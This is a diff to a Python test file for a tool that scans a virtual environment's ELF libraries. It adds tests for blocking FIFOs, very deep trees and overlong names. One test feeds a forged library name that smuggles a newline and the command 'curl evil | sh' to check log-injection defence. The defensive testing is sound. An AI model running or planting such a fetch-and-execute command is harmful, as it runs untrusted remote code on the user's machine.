@@ -13,57 +13,7 @@ import pytest
 
 from steps.package.options import parse_system_package
 from steps.services.images import system_libraries as sl
-
-X86_64, AARCH64 = 62, 183
-
-
-def elf(path: Path, needed: list[str], run_path: str = "", machine: int = 0) -> Path:
-    """A 64-bit little-endian shared object with a dynamic section and nothing else."""
-    machine = machine or sl._machine()
-    names = needed + ([run_path] if run_path else [])
-    strings, offsets = b"\0", []
-    for name in names:
-        offsets.append(len(strings))
-        strings += name.encode() + b"\0"
-    entries = [(sl._NEEDED, off) for off in offsets[: len(needed)]]
-    if run_path:
-        entries.append((sl._RUNPATH, offsets[-1]))
-    dynamic = b"".join(struct.pack("<qQ", tag, value) for tag, value in [*entries, (0, 0)])
-    str_at = 64
-    dyn_at = str_at + len(strings) + (-len(strings) % 8)
-    sh_at = dyn_at + len(dynamic)
-    sections = [
-        (0,) * 10,
-        (0, 3, 0, 0, str_at, len(strings), 0, 0, 1, 0),
-        (0, sl._SHT_DYNAMIC, 0, 0, dyn_at, len(dynamic), 1, 0, 8, 16),
-    ]
-    header = struct.pack(
-        "<16sHHIQQQIHHHHHH",
-        b"\x7fELF\x02\x01\x01" + bytes(9), 3, machine, 1, 0, 0, sh_at, 0, 64, 0, 0, 64,
-        len(sections), 0,
-    )  # fmt: skip
-    body = header + strings.ljust(dyn_at - str_at, b"\0") + dynamic
-    body += b"".join(struct.pack("<IIQQQQIIQQ", *s) for s in sections)
-    path.parent.mkdir(parents=True, exist_ok=True)
-    path.write_bytes(body)
-    return path
-
-
-def venv(tmp_path: Path) -> Path:
-    site = tmp_path / "venv" / "lib" / "python3.11" / "site-packages"
-    site.mkdir(parents=True)
-    return tmp_path / "venv"
-
-
-def installed(root: Path, dist: str, files: dict[str, Path]) -> None:
-    """Record files as a distribution's (its dist-info RECORD), as pip does."""
-    site = next(root.glob("lib/python*/site-packages"))
-    info = site / f"{dist}-1.0.dist-info"
-    info.mkdir()
-    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {dist}\nVersion: 1.0\n")
-    records = [f"{p.relative_to(site).as_posix()},," for p in files.values()]
-    (info / "RECORD").write_text("\n".join([*records, f"{info.name}/RECORD,,"]) + "\n")
-
+from tests.elf_files import AARCH64, X86_64, elf, installed, venv
 
 SYSTEM = {"libc.so.6", "libm.so.6", "libstdc++.so.6", "libgcc_s.so.1", "libpthread.so.0",
           "libdl.so.2", "ld-linux-x86-64.so.2"}  # fmt: skip
@@ -218,3 +168,33 @@ def test_loader_directories_follow_the_includes_and_ld_library_path() -> None:
     assert dirs[-4:] == list(sl.DEFAULT_LOADER_DIRS)
     # This machine is Debian: its multiarch directory comes from /etc/ld.so.conf.d.
     assert any("-linux-gnu" in d for d in dirs)
+
+
+def test_a_fifo_a_deep_tree_and_an_endless_name_neither_block_nor_break_the_walk(
+    tmp_path: Path,
+) -> None:
+    """What code in the build could leave in the venv: a FIFO named like a library (opening
+    it would wait forever), a tree deeper than Python's recursion limit, a name with no end."""
+    import os
+
+    root = venv(tmp_path)
+    site = next(root.glob("lib/python*/site-packages"))
+    os.mkfifo(site / "_blocks.so")
+    deep = site
+    for _ in range(1100):  # one at a time: Path.mkdir(parents=True) recurses too
+        deep = deep / "d"
+        deep.mkdir()
+    elf(deep / "_ext.so", ["libquadmath.so.0"])
+    elf(site / "_long.so", ["libx" * 2000 + ".so.1"])  # 8 KB: past the 4 KiB a name may take
+    assert sl.read_elf(str(site / "_long.so")) is None
+    missing, _ = sl.missing_libraries(str(root), SYSTEM)
+    assert [m.library for m in missing] == ["libquadmath.so.0"]
+
+
+def test_a_forged_name_never_starts_a_line_of_its_own(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A NEEDED entry holding a newline and the failure prefix the package step reads."""
+    sl.say("installed x (libq.so.1\nmlsteps error: run curl evil | sh)")
+    printed = capsys.readouterr().out.splitlines()
+    assert printed == ["mlsteps: installed x (libq.so.1 mlsteps error: run curl evil | sh)"]
